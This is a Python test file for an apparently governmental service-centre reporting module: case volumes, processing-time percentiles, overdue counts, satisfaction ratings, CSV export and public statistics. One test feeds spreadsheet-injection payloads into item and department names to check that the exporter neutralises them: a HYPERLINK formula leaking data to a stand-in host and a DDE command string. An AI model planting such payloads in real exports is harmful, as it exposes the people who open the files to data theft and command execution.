"""Performance reports over a period, from cases that went through ingest and the workflow and ratings
that came from a terminal: volumes, median and 95th-percentile processing time, the share decided in
time, overdue counts, the satisfaction distribution and the worst-rated items with their reasons —
the same figures on SQLite and PostgreSQL, and as CSV."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, date, datetime, timedelta
from typing import NamedTuple

import pytest
from sqlalchemy import Engine, text

from hub.calendar.duedates import DueDates
from hub.calendar.service import CalendarService
from hub.cases.states import Action
from hub.cases.workflow import Workflow
from hub.db.engine import open_engine
from hub.people.roles import Principal
from hub.people.service import Users
from hub.reports.export import HEADER, to_csv
from hub.reports.service import Period, build, per_item
from hub.reports.stats import percentile
from protocol import topics
from protocol.catalogue import Catalogue, load_seed
from protocol.ratings import Rating, RatingBatch, RatingBatchBody, RatingLevel
from tests.unit.hub.helpers import add_users, handler, ingest

A = Action
MONDAY = datetime(2026, 3, 2, 2, 0, tzinfo=UTC)
MARCH = Period(date(2026, 3, 1), date(2026, 3, 31))


class Clock:
    def __init__(self) -> None:
        self.now = MONDAY

    def __call__(self) -> datetime:
        return self.now


class Centre(NamedTuple):
    engine: Engine
    catalogue: Catalogue
    clock: Clock
    flow: Workflow
    manager: Principal


def test_percentiles_interpolate_between_ranks_like_percentile_cont():
    assert percentile([], 0.5) is None
    assert percentile([4.0], 0.95) == 4.0
    assert percentile([1.0, 2.0, 7.0], 0.5) == 2.0
    assert percentile([1.0, 2.0, 7.0], 0.95) == pytest.approx(6.5)
    assert percentile([1.0, 2.0, 3.0, 7.0], 0.5) == pytest.approx(2.5)


@pytest.fixture
def centre(hub_db_url):
    """The hub's database with the seed catalogue, a workflow on a test clock, and its manager."""
    engine = open_engine(hub_db_url)
    catalogue = load_seed()
    clock = Clock()
    due = DueDates(CalendarService(engine), catalogue.get)
    flow = Workflow(engine, due, lambda: {d.code: d.name for d in catalogue.departments}, clock=clock)
    manager = add_users(Users(engine))["manager"]
    yield Centre(engine, catalogue, clock, flow, manager)
    engine.dispose()


@pytest.fixture
def report_db(centre):
    engine, catalogue, clock, flow, manager = centre

    def decide(case_id: str, action: Action, days: float, reason: str = "") -> None:
        clock.now = MONDAY
        flow.act(manager, case_id, A.ACCEPT, 1)
        clock.now = MONDAY + timedelta(days=days)
        flow.act(manager, case_id, action, 2, reason)

    # February: outside the period altogether.
    (old,) = ingest(engine, ["GA-003"], at=MONDAY - timedelta(days=3), start=90)
    clock.now = MONDAY - timedelta(days=3)
    flow.act(manager, old, A.ACCEPT, 1)
    flow.act(manager, old, A.COMPLETE, 2)
    # March: GA-003 (3 working days, due Thu 5 March) ×3, MZ-006 (10 days, due Mon 16 March) ×3.
    a, b, c, d, e, f = ingest(engine, ["GA-003"] * 3 + ["MZ-006"] * 3, at=MONDAY)
    decide(a, A.COMPLETE, 1)  # in time
    decide(b, A.COMPLETE, 7)  # Monday 9 March: late
    decide(c, A.REJECT, 2, "不符合条件")  # in time
    decide(d, A.COMPLETE, 3)  # in time
    clock.now = MONDAY
    flow.act(manager, e, A.ACCEPT, 1)  # still open on the 31st: overdue since the 16th
    flow.act(manager, f, A.WITHDRAW, 1, "申请人撤回")

    rated = MONDAY + timedelta(days=8)
    ratings = [
        ("GA-003", 1, "等了太久"),
        ("GA-003", 2, "材料要求没说清"),
        ("GA-003", 5, ""),
        ("MZ-006", 5, ""),
        ("MZ-006", 4, ""),
        ("MZ-006", 4, ""),
        ("", 3, ""),  # a visit without a case still counts for the centre
    ]
    batch = RatingBatch(
        terminal="T1",
        seq=50,
        sent_at=rated,  # by a terminal whose clock is right: sent as the hub receives it
        body=RatingBatchBody(
            ratings=[
                Rating(
                    rating_id=uuid.uuid4(),
                    item_code=code,
                    committee="JW001",
                    level=RatingLevel(n),
                    reason=why,
                    rated_at=rated,
                )
                for code, n, why in ratings
            ]
        ),
    )
    handler(engine).handle(topics.up("T1", topics.Up.RATINGS), batch.encode(), rated)
    return engine, catalogue


def test_the_report_counts_what_happened_in_the_period(report_db):
    engine, catalogue = report_db
    r = build(engine, MARCH, catalogue=catalogue, today=date(2026, 3, 31), min_ratings=3)
    ga = next(f for f in r.items if f.code == "GA-003")
    mz = next(f for f in r.items if f.code == "MZ-006")
    assert (ga.received, ga.decided, ga.completed, ga.rejected, ga.withdrawn) == (3, 3, 2, 1, 0)
    assert (ga.median_days, ga.p95_days) == (pytest.approx(2.0), pytest.approx(6.5))
    assert ga.in_time_share == pytest.approx(2 / 3) and ga.overdue == 1
    assert (mz.received, mz.decided, mz.withdrawn, mz.overdue) == (3, 1, 1, 1)
    assert mz.in_time_share == 1.0 and mz.median_days == pytest.approx(3.0)

    t = r.total
    assert (t.received, t.decided, t.completed, t.rejected, t.withdrawn, t.overdue) == (6, 4, 3, 1, 1, 2)
    assert (t.median_days, t.p95_days) == (pytest.approx(2.5), pytest.approx(6.4))
    assert t.in_time_share == pytest.approx(3 / 4)
    assert t.ratings == {5: 2, 4: 2, 3: 1, 2: 1, 1: 1} and t.bad == 2
    assert [d.code for d in r.departments if d.received] == ["MZ", "GA"]  # catalogue (counter) order
    # every department shows, those with nothing in the period with their zeros (a numbers review)
    assert [d.code for d in r.departments] == [d.code for d in catalogue.departments]
    assert all((d.received, d.rated, d.overdue) == (0, 0, 0) for d in r.departments if d.code not in ("MZ", "GA"))
    ga_dept = next(d for d in r.departments if d.code == "GA")
    assert (ga_dept.name, ga_dept.received, ga_dept.bad_share) == ("公安（居住证）", 3, pytest.approx(2 / 3))

    assert [w.code for w in r.worst_items] == ["GA-003"]
    worst = r.worst_items[0]
    assert (worst.rated, worst.bad) == (3, 2) and set(worst.reasons) == {"等了太久", "材料要求没说清"}


def test_a_departments_report_holds_only_its_items(report_db):
    engine, catalogue = report_db
    r = build(engine, MARCH, ["MZ"], catalogue=catalogue, today=date(2026, 3, 31))
    assert [f.code for f in r.items] == ["MZ-006"] and [d.code for d in r.departments] == ["MZ"]
    assert r.total.received == 3 and r.worst_items == []


def test_the_csv_has_one_line_per_department_and_item_and_opens_in_excel(report_db):
    engine, catalogue = report_db
    text = to_csv(build(engine, MARCH, catalogue=catalogue, today=date(2026, 3, 31)))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0] == HEADER
    by_code = {row[1]: row for row in rows[1:]}
    assert set(by_code) == {"*", "MZ-006", "GA-003"} | {d.code for d in catalogue.departments}
    ga = dict(zip(HEADER, by_code["GA-003"], strict=True))
    assert (ga["收件量"], ga["已办结"], ga["按时办结率"]) == ("3", "2", "66.67%")
    assert (ga["超期件数"], ga["非常不满意"], ga["差评率"]) == ("1", "1", "66.67%")


def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(report_db):
    """An operator names items and departments in the catalogue; the manager opens the report in Excel, which
    runs a cell starting ``=``, ``+``, ``-`` or ``@`` as a formula (OWASP "CSV injection"): such a cell is
    written with a leading apostrophe, which Excel and WPS show as text and do not keep in the value."""
    engine, catalogue = report_db
    formula = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
    items = [i.model_copy(update={"name": formula}) if i.code == "GA-003" else i for i in catalogue.items]
    depts = [
        d.model_copy(update={"name": " @SUM(1+1)*cmd|' /C calc'!A0"}) if d.code == "GA" else d  # a space first
        for d in catalogue.departments
    ]
    renamed = catalogue.model_copy(update={"items": items, "departments": depts})
    rows = list(
        csv.reader(
            io.StringIO(to_csv(build(engine, MARCH, catalogue=renamed, today=date(2026, 3, 31))).lstrip("\ufeff"))
        )
    )
    by_code = {row[1]: dict(zip(HEADER, row, strict=True)) for row in rows[1:]}
    name = HEADER[2]
    assert by_code["GA-003"][name] == "'" + formula
    assert by_code["GA"][name] == "' @SUM(1+1)*cmd|' /C calc'!A0"
    assert by_code["MZ-006"][name] == next(i.name for i in catalogue.items if i.code == "MZ-006"), "others as they are"
    assert by_code["GA-003"]["收件量"] == "3", "figures stay numbers"


def test_a_case_routed_to_another_department_counts_for_the_department_that_held_it(centre):
    """Lines are per item and department: a GA-003 case the manager routed to 民政 is 民政's, not filed under
    公安 with the item's other cases because the first row of the item came from there."""
    engine, catalogue, clock, flow, manager = centre
    kept, moved, also_kept = ingest(engine, ["GA-003"] * 3, at=MONDAY)
    flow.route(manager, moved, "MZ", 1)
    for case_id, days in ((kept, 1), (also_kept, 3)):
        clock.now = MONDAY
        flow.act(manager, case_id, A.ACCEPT, 1)
        clock.now = MONDAY + timedelta(days=days)
        flow.act(manager, case_id, A.COMPLETE, 2)
    clock.now = MONDAY
    flow.act(manager, moved, A.ACCEPT, 2)
    clock.now = MONDAY + timedelta(days=2)
    flow.act(manager, moved, A.COMPLETE, 3)

    r = build(engine, MARCH, catalogue=catalogue, today=date(2026, 3, 31))
    lines = {(f.code, f.department): (f.received, f.completed, f.median_days) for f in r.items}
    assert lines == {("GA-003", "GA"): (2, 2, pytest.approx(2.0)), ("GA-003", "MZ"): (1, 1, pytest.approx(2.0))}
    assert {d.code: d.received for d in r.departments if d.received} == {"GA": 2, "MZ": 1}
    assert build(engine, MARCH, ["MZ"], catalogue=catalogue, today=date(2026, 3, 31)).total.completed == 1
    public = per_item(r.items)  # the public statistics name an item once
    assert [(f.code, f.received, f.completed, f.median_days) for f in public] == [("GA-003", 3, 3, None)]


def test_a_routed_cases_rating_and_return_call_go_to_the_department_that_held_it(centre):
    """Numbers review: an MZ-006 case routed to 人社 and completed there, then rated 非常不满意, put the bad
    rating on 民政's satisfaction line and the return call on 民政's list, by the item's department in the
    catalogue. Worked by hand: 人社 received 1, completed 1, rated 1, one return call; 民政 nothing."""
    engine, catalogue, clock, flow, manager = centre
    (case,) = ingest(engine, ["MZ-006"], at=MONDAY)
    flow.route(manager, case, "RS", 1)
    flow.act(manager, case, A.ACCEPT, 2)
    clock.now = MONDAY + timedelta(days=2)
    flow.act(manager, case, A.COMPLETE, 3)
    with engine.connect() as conn:
        receipt = conn.execute(text("SELECT receipt_no FROM cases")).scalar_one()
    rated = MONDAY + timedelta(days=3)
    rating = Rating(
        rating_id=uuid.uuid4(),
        case_id=uuid.UUID(case),
        receipt_no=receipt,
        item_code="MZ-006",
        committee="JW001",
        level=RatingLevel(1),
        reason="太慢",
        rated_at=rated,
    )
    batch = RatingBatch(terminal="T1", seq=90, sent_at=rated, body=RatingBatchBody(ratings=[rating]))
    handler(engine).handle(topics.up("T1", topics.Up.RATINGS), batch.encode(), rated)

    r = build(engine, MARCH, catalogue=catalogue, today=date(2026, 3, 31))
    lines = {d.code: (d.received, d.completed, d.rated, d.return_calls) for d in r.departments}
    lines = {code: figures for code, figures in lines.items() if any(figures)}
    assert lines == {"RS": (1, 1, 1, 1)}
    with engine.connect() as conn:
        assert conn.execute(text("SELECT department FROM return_calls")).scalar_one() == "RS"


def test_the_public_statistics_name_an_item_once_over_the_departments_that_held_it(centre):
    """Numbers review: 12 GA-003 cases, 6 of them routed to 民政, were two lines named 居住证签注 on the
    public page (6 and 6), with no department to tell them apart."""
    from hub.portal.stats import PublicStats
    from hub.reports.reporter import Reporter

    engine, catalogue, clock, flow, manager = centre
    cases = ingest(engine, ["GA-003"] * 12, at=MONDAY)
    for case in cases[:6]:
        flow.route(manager, case, "MZ", 1)
    month = PublicStats(Reporter(engine, lambda: catalogue), lambda: catalogue, 1, 5).month(MARCH.start, MARCH.end)
    assert [(i.code, i.received) for i in month.items] == [("GA-003", 12)]


def test_withdrawing_an_overdue_case_does_not_take_its_lateness_away(centre):
    """A clerk marked two red-card cases 申请人撤回: they left the overdue board and every late figure. A
    withdrawal is no decision (it counts neither way while in time), but one past the due date stays late."""
    engine, catalogue, clock, flow, manager = centre
    # MZ-006: 10 working days from Monday 2 March, due Monday 16 March (worked by hand, no holidays then)
    early, late = ingest(engine, ["MZ-006"] * 2, at=MONDAY)
    flow.act(manager, early, A.ACCEPT, 1)
    flow.act(manager, late, A.ACCEPT, 1)
    clock.now = datetime(2026, 3, 16, 8, 0, tzinfo=UTC)  # the due day itself, 16:00 in Shanghai: in time
    flow.act(manager, early, A.WITHDRAW, 2, "申请人撤回")
    clock.now = datetime(2026, 3, 18, 2, 0, tzinfo=UTC)  # two days past it
    flow.act(manager, late, A.WITHDRAW, 2, "申请人来电表示不再办理")
    r = build(engine, MARCH, catalogue=catalogue, today=date(2026, 3, 31), min_ratings=3)
    mz = next(f for f in r.items if f.code == "MZ-006")
    assert (mz.received, mz.decided, mz.withdrawn, mz.overdue) == (2, 0, 2, 1)
    assert mz.in_time_share is None, "withdrawals are not decisions: the on-time share is of decisions"


def test_a_case_overdue_since_before_the_period_and_still_open_counts_in_it(centre):
    """The review: a case open and overdue since 3 November appeared in no 30-day report. Received Monday
    2 February, MZ-006 (10 working days) is due in February; still open, it is outstanding in March's
    report, though received and due before it."""
    engine, catalogue, clock, flow, manager = centre
    (old,) = ingest(engine, ["MZ-006"], at=datetime(2026, 2, 2, 2, 0, tzinfo=UTC))
    clock.now = datetime(2026, 2, 3, 2, 0, tzinfo=UTC)
    flow.act(manager, old, A.ACCEPT, 1)
    with engine.connect() as conn:
        due_on = conn.execute(text("SELECT due_date FROM cases WHERE case_id = :c"), {"c": old}).scalar_one()
    assert date.fromisoformat(str(due_on)) < MARCH.start, due_on
    r = build(engine, MARCH, catalogue=catalogue, today=date(2026, 3, 31), min_ratings=3)
    mz = next(f for f in r.items if f.code == "MZ-006")
    assert (mz.received, mz.decided, mz.overdue) == (0, 0, 1)


def test_a_past_periods_overdue_figure_stays_once_the_case_is_completed_late(centre):
    """Year-end review: a case due in December and still open was 超期 in the 2026 report run on 2 January;
    completed late on 5 January, the same 2026 report then showed no overdue case. A period counts the
    cases running at its end past their due date: decided after the period, it still was. MZ-006 (10
    working days) received Monday 2 February is due Saturday 14 February (by hand, on the 2026
    arrangement: Tue 3 … Fri 6 = 4, Mon 9 … Fri 13 = 9, Saturday 14 worked for 春节 = 10), and is
    completed on 10 March."""
    engine, catalogue, clock, flow, manager = centre
    (case,) = ingest(engine, ["MZ-006"], at=datetime(2026, 2, 2, 2, 0, tzinfo=UTC))
    clock.now = datetime(2026, 2, 3, 2, 0, tzinfo=UTC)
    flow.act(manager, case, A.ACCEPT, 1)
    with engine.connect() as conn:
        due_on = date.fromisoformat(str(conn.execute(text("SELECT due_date FROM cases")).scalar_one())[:10])
    assert due_on == date(2026, 2, 14)
    february = Period(date(2026, 2, 1), date(2026, 2, 28))

    def overdue(period: Period, today: date) -> int:
        return build(engine, period, catalogue=catalogue, today=today, min_ratings=3).total.overdue

    assert overdue(february, date(2026, 3, 2)) == 1  # asked on 2 March: running, past due
    clock.now = datetime(2026, 3, 10, 2, 0, tzinfo=UTC)
    flow.act(manager, case, A.COMPLETE, 2)
    assert overdue(february, date(2026, 3, 11)) == 1, "February's figure is as it was at February's end"
    assert overdue(MARCH, date(2026, 3, 31)) == 1  # and March has it decided late


def test_a_share_on_the_page_is_never_rounded_to_all_or_none():
    """Numbers review: one late case in 2,000 showed as 100.0 % on the page (the CSV: 99.95 %)."""
    from hub.web.filters import share

    assert [share(v) for v in (1999 / 2000, 1.0, 1 / 2000, 0.0, 0.5, 2 / 3, None)] == [
        "99.9%",
        "100.0%",
        "0.1%",
        "0.0%",
        "50.0%",
        "66.7%",
        "—",
    ]


def test_a_notice_sent_after_the_period_does_not_take_a_late_case_out_of_it(centre):
    """Numbers review: a case late at March's end was 超期 in March's report on 1 April; a 补正 notice sent
    that day took it out (waiting in 补正 now), and its resumption moved the due date past March. GA-003 (3
    working days; statutory 15) received Monday 2 March is due Thursday 5 March and by law Monday 23 March
    (by hand: Tue 3 … Fri 6 = 4, Mon 9 … Fri 13 = 9, Mon 16 … Fri 20 = 14, Mon 23 = 15), and still open on
    the 31st: 超期 1, 超法定时限 1, whatever is done in April. A case waiting in 补正 at March's end (its
    clock stood still) is not counted, before or after it resumes."""
    engine, catalogue, clock, flow, manager = centre
    late, waiting = ingest(engine, ["GA-003"] * 2, at=MONDAY)
    flow.act(manager, late, A.ACCEPT, 1)
    flow.act(manager, waiting, A.ACCEPT, 1)
    clock.now = MONDAY + timedelta(days=1)  # Tuesday 3 March: in time, the clock stops
    flow.act(manager, waiting, A.REQUEST_MATERIALS, 2, "请补交", ["户口簿"])

    def march(today: date) -> tuple[int, int]:
        t = build(engine, MARCH, catalogue=catalogue, today=today).total
        return t.overdue, t.over_statutory

    assert march(date(2026, 4, 1)) == (1, 1)
    clock.now = datetime(2026, 4, 1, 2, 0, tzinfo=UTC)
    flow.act(manager, late, A.REQUEST_MATERIALS, 2, "请补交", ["户口簿"])
    assert march(date(2026, 4, 2)) == (1, 1), "the notice after March changes nothing of March"
    clock.now = datetime(2026, 4, 30, 2, 0, tzinfo=UTC)  # resumed: the due date moves on by the pause
    flow.act(manager, late, A.RESUME, 3)
    flow.act(manager, waiting, A.RESUME, 3)
    assert march(date(2026, 5, 1)) == (1, 1), "nor does its end"


def test_a_hidden_small_count_on_the_public_page_cannot_be_worked_out_by_subtraction(centre):
    """Review of the line above, as first made: items merged before hiding no longer added up to their
    department's count. With 5 MZ-001, 10 RS-001 (2 of them routed to 民政) and 2 RS-002, at k = 3 the page
    showed 17 in all, MZ-001 5 and RS-001 10: 17 - 15 = 2, the hidden RS-002. Worked by hand: 民政's lines
    are MZ-001 5 and RS-001 2 under 民政's 7 shown: RS-001 is hidden, and then MZ-001 (7 - 5 would tell the
    2); 人社's RS-001 8 and RS-002 2 under its 10 hide RS-002, then RS-001: no item is shown, the departments
    are (7 and 10)."""
    from hub.portal.stats import PublicStats
    from hub.reports.reporter import Reporter

    engine, catalogue, clock, flow, manager = centre
    cases = ingest(engine, ["MZ-001"] * 5 + ["RS-001"] * 10 + ["RS-002"] * 2, at=MONDAY)
    for case in cases[5:7]:
        flow.route(manager, case, "MZ", 1)
    month = PublicStats(Reporter(engine, lambda: catalogue), lambda: catalogue, 1, 3).month(MARCH.start, MARCH.end)
    assert month.total.received == 17
    assert [(d.code, d.received) for d in month.departments] == [("MZ", 7), ("RS", 10)]
    assert [(i.code, i.received) for i in month.items if i.received is not None] == []
